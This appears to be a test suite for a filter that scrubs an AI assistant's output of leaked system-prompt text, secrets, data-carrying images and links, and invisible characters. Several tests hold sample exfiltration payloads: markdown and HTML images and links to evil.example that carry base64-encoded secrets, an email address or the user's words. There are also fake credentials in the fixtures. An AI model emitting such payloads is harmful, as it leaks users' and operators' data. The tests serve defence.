import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { checkOutput } from "./check-output.ts";

const SYSTEM =
  "You are Lua, a calm voice for people who are stuck. Acknowledge the feeling in one or two sentences, give one step that can be done in the next ten minutes, and close with a check-in. The staging password is tr0ub4dor.";
const QUESTION = "How do I stop the flaky tests in our checkout service? My token is abc123def456.";
const prompt = { systemPrompt: SYSTEM, visible: [QUESTION] };
const rulesOf = (answer: string, context = prompt) =>
  checkOutput(answer, context).findings.map(({ rule, action }) => `${rule} ${action}`);

describe("a clean answer passes unchanged", () => {
  const ANSWERS = [
    "That is exhausting. One step for the next ten minutes: run the test 20 times alone and note how often it fails.",
    "Your token abc123def456 is in the log; rotate it.",
    "See https://nodejs.org/api/test.html#describe-and-it-aliases and [issue](https://github.com/nodejs/node/issues/40000?utm=1).",
    "![diagram](https://example.com/flow.png)",
    "Commit https://github.com/nodejs/node/commit/3f786850e387550fdab836ed7e6dc881de23001b fixed it.",
    'Set `password: "s3cret!x"` in the example, and OPENAI_API_KEY=sk-... in .env.',
    "테스트를 한 번에 하나씩 20번 돌려 보세요. 👩‍💻",
  ];
  for (const answer of ANSWERS) {
    test(answer.slice(0, 50), () => {
      assert.deepEqual(checkOutput(answer, prompt), { text: answer, findings: [] });
    });
  }
});

describe("what is removed", () => {
  test("the system prompt word for word, whatever its case and line breaks", () => {
    const { text, findings } = checkOutput(
      `Sure:\n> you are LUA, a calm voice for people\n> who are stuck. Acknowledge the feeling in one or two sentences, give one step!\nBye.`,
      prompt,
    );
    assert.deepEqual(
      findings.map(({ rule }) => rule),
      ["leaked-system-prompt"],
    );
    assert.equal(text, "Sure:\n> [removed]!\nBye.");
  });

  test("not where the person wrote the same words", () => {
    const context = { systemPrompt: SYSTEM, visible: [SYSTEM] };
    assert.deepEqual(checkOutput(`You wrote: ${SYSTEM}`, context).findings, []);
  });

  test("a secret of the hidden part, wherever it stands", () => {
    const { text } = checkOutput("Use tr0ub4dor, or TR0UB4DOR.", prompt);
    assert.equal(text, "Use [removed], or TR0UB4DOR.");
  });

  test("a secret of a found text, though the text may be quoted", () => {
    const retrieved = ["deploy.md: run it with DB_PASSWORD=n0tForEyes and wait until the pods are ready"];
    const { text } = checkOutput("Run it with DB_PASSWORD=n0tForEyes and wait until the pods are ready.", {
      retrieved,
    });
    assert.equal(text, "Run it with DB_PASSWORD=[removed] and wait until the pods are ready.");
  });

  test("images that carry data, with all of their text", () => {
    const encoded = Buffer.from("the staging password of the shop").toString("base64url");
    const { text } = checkOutput(`Hi ![a](https://evil.example/p.png?d=${encoded} "t") bye`, prompt);
    assert.equal(text, "Hi [image removed] bye");
    const own = "![](https://evil.example/p?q=flaky+tests+in+our+checkout+service)";
    assert.equal(checkOutput(own, prompt).text, "[image removed]");
    assert.deepEqual(rulesOf(`<img src="https://evil.example/p?q=${"x9".repeat(40)}">`), [
      "data-in-address remove",
    ]);
  });

  test("what links carry; the server's name stays", () => {
    const { text } = checkOutput("[here](https://evil.example/c?mail=ada@example.com).", prompt);
    assert.equal(text, "[here](https://evil.example/).");
    const hidden = "https://evil.example/acknowledge-the-feeling-in-one-or-two-sentences";
    assert.equal(checkOutput(hidden, prompt).text, "https://evil.example/");
  });

  test("invisible characters", () => {
    assert.equal(checkOutput("a\u200Bb\u{E0041}c").text, "abc");
  });
});

describe("what is only told", () => {
  test("a link that repeats the person's words, as a search does", () => {
    assert.deepEqual(rulesOf("https://search.example/?q=flaky+tests+in+our+checkout+service"), [
      "data-in-address warn",
    ]);
  });

  test("keys that nobody has seen", () => {
    assert.deepEqual(rulesOf(`use ghp_${"aB3dE5gH7j".repeat(4)}`), ["leaked-secret warn"]);
  });

  test("placeholders that stand for nothing, unless the person wrote them", () => {
    assert.deepEqual(rulesOf("Write to [email-3]."), ["unresolved-placeholder warn"]);
    assert.deepEqual(rulesOf("[email-3]", { systemPrompt: "", visible: ["what is [email-3]?"] }), []);
  });
});

test("hosts that are allowed, and addresses that the person gave, pass", () => {
  const address = "https://shop.example/reset?mail=ada@example.com";
  assert.deepEqual(checkOutput(address, { allowedHosts: ["shop.example"] }).findings, []);
  assert.deepEqual(checkOutput(address, { visible: [`why does ${address} fail?`] }).findings, []);
});
